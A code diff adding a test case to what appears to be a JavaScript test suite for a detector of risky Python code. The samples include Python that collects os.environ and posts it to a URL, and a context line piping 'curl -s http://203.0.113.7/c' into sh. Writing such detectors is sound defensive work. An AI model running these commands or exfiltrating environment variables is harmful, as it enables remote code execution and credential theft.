@@ -10,6 +10,14 @@ describe('Python files', () => {
     assert.deepEqual(kindsIn(`${fetched}print(len(data))`), []);
   });
 
+  it('send the environment, however the request is made and laid out', () => {
+    const taken = 'from urllib import request\nout = dict(os.environ)\n';
+    assert.deepEqual(kindsIn(`${taken}r = request.Request(\n  URL,\n  data=json.dumps(out).encode())`), [
+      'command-sends-data',
+    ]);
+    assert.deepEqual(kindsIn(`${taken}r = request.Request(URL, method="GET")`), []);
+  });
+
   it('start commands, as one text or word by word', () => {
     const command = 'curl -s http://203.0.113.7/c | sh';
     for (const call of [
